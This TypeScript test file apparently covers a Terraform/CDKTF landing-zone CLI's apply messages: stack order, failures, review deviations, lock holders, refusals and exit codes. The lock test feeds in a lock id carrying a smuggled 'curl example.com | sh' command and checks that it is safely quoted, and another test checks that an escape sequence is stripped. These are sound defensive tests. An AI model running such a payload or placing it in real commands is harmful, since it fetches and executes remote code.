import { describeApplied, describeForeseen, describeRefusal } from "../../../cli/apply/describe";
import { exitCodeOf } from "../../../cli/apply/exit";
import type { AppliedStack, StackResult, StackToApply } from "../../../terraform/apply-stacks";
import { foresee } from "../../../terraform/foresee";
import type { ManifestStack } from "../../../terraform/plan-manifest";

const COMMAND = { config: "landing-zone.yaml", output: "cdktf.out", folders: ["plans"], isBreakGlass: false };
const COUNTS = { add: 1, change: 2, destroy: 0, imported: 0, moved: 0, forgotten: 0, outputs: 0 };
const applied = (results: Readonly<Record<string, StackResult>>): AppliedStack[] =>
  Object.entries(results).map(([stack, result]) => ({ stack, account: "audit", result, notes: [] }));
const said = (results: Readonly<Record<string, StackResult>>, isInterrupted = false): string =>
  describeApplied({
    ...COMMAND,
    isInterrupted,
    applied: applied(results),
    terraform: "terraform",
    outdir: "/cdktf.out",
  });
const DONE: StackResult = { kind: "applied", counts: COUNTS };
const stack = (name: string, outcome: ManifestStack["outcome"], more: Partial<StackToApply> = {}): StackToApply => ({
  stack: name,
  account: "audit",
  dependsOn: [],
  after: [],
  outcome,
  synthesized: "",
  key: "key",
  isSealed: true,
  ...more,
});

describe("what is said of an apply", () => {
  it("says before it in which order, what is behind what, and what is left", () => {
    const stacks = [
      stack("organization", "changes"),
      stack("detection", "changes", { dependsOn: ["organization"], after: ["organization"] }),
      stack("log-archive", "changes", { needsBreakGlass: true }),
      stack("tools", "noChanges"),
      stack("shop", "waiting", { waitsFor: ["organization"] }),
      stack("rules", "changes", { after: ["shop"] }),
    ];
    const foreseen = foresee(stacks, new Map(stacks.map(({ stack: name }) => [name, { key: "key" }])), false);
    const text = describeForeseen(stacks, foreseen, new Map([["organization", { counts: COUNTS }]]), COMMAND);
    expect(text).toMatch(/organization in audit, as it was reviewed: 1 to add, 2 to change, 0 to destroy/);
    expect(text).toMatch(/detection in audit, behind organization/);
    expect(text).toContain("shop: left: waited for organization when it was planned");
    expect(text).toContain("rules: not begun: behind shop");
    expect(text).toContain("Nothing to do in 1 stack: tools");
    expect(text).toMatch(/log-archive: only the break-glass role.*\n.*\n.*apply -- plans --break-glass --confirm/);
    expect(text).toMatch(/Nothing was changed\. To do it:\n.*apply -- plans --confirm$/);
  });

  it("names so many stacks that something is behind, and counts the others", () => {
    const names = Array.from({ length: 30 }, (_, index) => `baseline-shop-${index}`);
    const stacks = [...names.map((name) => stack(name, "waiting")), stack("rules", "changes", { after: names })];
    const foreseen = foresee(stacks, new Map(), false);
    for (const text of [
      describeForeseen(stacks, foreseen, new Map(), COMMAND),
      said({ rules: { kind: "blocked", by: names } }),
    ]) {
      expect(text).toContain("rules");
      expect(text).toContain("behind baseline-shop-0, baseline-shop-1 and 28 more");
      expect(text.split("\n").filter((line) => line.length > 80)).toEqual([]);
    }
  });

  it("says after a failure what was applied, what failed, why, and what was not begun", () => {
    const failed: StackResult = { kind: "failed", problems: ["No luck today"], done: 3, errored: ["aws_sns_topic.a"] };
    const text = said({ organization: DONE, audit: failed, shop: { kind: "notBegun" }, old: { kind: "skipped" } });
    expect(text).toMatch(/^ {2}organization in audit, applied: 1 added, 2 changed, 0 destroyed$/m);
    expect(text).toMatch(/^ {2}audit in audit, FAILED after 3 resources$/m);
    expect(text).toContain("audit failed: No luck today");
    expect(text).toContain("aws_sns_topic.a");
    expect(text).toContain("and 1 stack skipped");
    expect(text).toMatch(/Stopped: 1 stack applied, 1 not begun\./);
  });

  it("says what differs from what was reviewed, and where to read it, in one line each", () => {
    const deviations = [
      { address: "aws_sns_topic.a\u001b[2J", kind: "added", now: "delete" },
      { address: "aws_sns_topic.b", kind: "action", reviewed: "update", now: "replace" },
      { address: "aws_sns_topic.c", kind: "after", paths: ["policy"] },
    ] as const;
    const text = said({ audit: { kind: "review", deviations, account: "plans/again/audit.json" } });
    expect(text).not.toContain("\u001b");
    expect(text).toMatch(/: destroy, which nobody has\s+reviewed/);
    expect(text).toContain("aws_sns_topic.b: replace, and update was reviewed");
    expect(text).toContain("aws_sns_topic.c: another value than was reviewed of policy");
    expect(text).toMatch(/review -- plans\/again\/audit\.json/);
  });

  it("says who holds a lock, and never only how to break it", () => {
    const holder = { id: "1-2", who: "ann@ci", created: "2026-11-30 15:15", operation: "apply" };
    const text = said({ audit: { kind: "locked", holder } });
    expect(text).toMatch(/ann@ci has been at it \(apply\) since 2026-11-30\s+15:15/);
    expect(text.indexOf("look first that nobody")).toBeLessThan(text.indexOf("force-unlock 1-2"));
    const evil = { ...holder, id: "1; curl example.com | sh\n" };
    expect(said({ audit: { kind: "locked", holder: evil } })).toContain("force-unlock '1; curl example.com | sh\\n'\n");
  });

  it("says that an interrupted apply goes on by the same command", () => {
    expect(said({ audit: { kind: "interrupted", done: 1 } }, true)).toMatch(/Interrupted: [\s\S]* goes on from there/);
  });

  it("names so many differences, and counts the others", () => {
    const text = describeRefusal(
      Array.from({ length: 40 }, (_, index) => `difference ${index}`),
      COMMAND,
    );
    expect(text.match(/difference \d/g)).toHaveLength(30);
    expect(text).toContain("and 10 more");
  });

  it.each([
    [{}, "plan -- --save FOLDER"],
    [{ encryptedUnder: "ARN", plannedBy: "reader" }, "plan -- --save FOLDER --encrypt-with ARN --role reader"],
    [{ isBreakGlass: true }, "plan -- --save FOLDER --break-glass"],
    [{ isBreakGlass: true, plannedBy: "reader" }, "plan -- --save FOLDER --role reader"],
  ])("names a command of which the plans are not refused by the same: %j", (options, command) => {
    expect(
      describeRefusal(["another"], { ...COMMAND, ...options })
        .split("\n")
        .at(-1),
    ).toMatch(new RegExp(`${command}$`));
  });

  it("says that there is something to record, where nothing else is to be done", () => {
    const stacks = [stack("tools", "noChanges")];
    const foreseen = foresee(stacks, new Map([["tools", { key: "key" }]]), false);
    const text = describeForeseen(stacks, foreseen, new Map(), COMMAND);
    expect(text).toMatch(
      /^There is nothing to apply\.[^]*To record that, so that the next plan skips it:\n.*--confirm$/,
    );
  });

  it.each<[number, StackResult[]]>([
    [0, [DONE, { kind: "done" }, { kind: "skipped" }, { kind: "unchanged" }, { kind: "left", why: "other" }]],
    [1, [DONE, { kind: "failed", problems: [], done: 0, errored: [] }, { kind: "notBegun" }]],
    [1, [{ kind: "locked", holder: { id: "1", who: "", created: "", operation: "" } }]],
    [2, [DONE, { kind: "left", why: "breakGlass" }]],
    [2, [DONE, { kind: "left", why: "waiting" }]],
    [2, [{ kind: "review", deviations: [] }]],
    [2, [DONE, { kind: "stale" }]],
    [4, [{ kind: "done" }, { kind: "stale" }]],
  ])("ends by %d", (code, results) => {
    expect(exitCodeOf(applied(Object.fromEntries(results.map((result, index) => [index, result]))))).toBe(code);
  });
});
